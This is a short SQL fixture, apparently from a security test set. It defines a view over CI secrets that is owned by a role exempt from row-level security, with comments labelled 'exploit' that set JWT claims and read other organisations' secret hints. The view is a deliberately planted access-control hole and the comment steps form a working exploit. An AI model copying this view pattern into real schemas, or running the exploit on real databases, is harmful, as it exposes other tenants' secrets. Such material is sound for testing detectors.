-- The view belongs to the role that is not bound by row security, so it lists the secrets of all
-- organisations.
-- about: secret_names, secrets
-- as: hf_runnerly_app
-- exploit: SET request.jwt.claims = '{"sub":"a0000000-0000-4000-8000-000000000001","role":"authenticated"}';
-- exploit: SELECT key, hint FROM ci.secret_names;
-- shows: Road-secret
-- The settings page shows keys and the first letters of their values.
CREATE VIEW ci.secret_names AS
  SELECT organization_id, key, left(value, 11) || '...' AS hint FROM ci.secrets;
GRANT SELECT ON ci.secrets TO hf_runnerly_robot;
ALTER VIEW ci.secret_names OWNER TO hf_runnerly_robot;
GRANT SELECT ON ci.secret_names TO hf_runnerly_app;
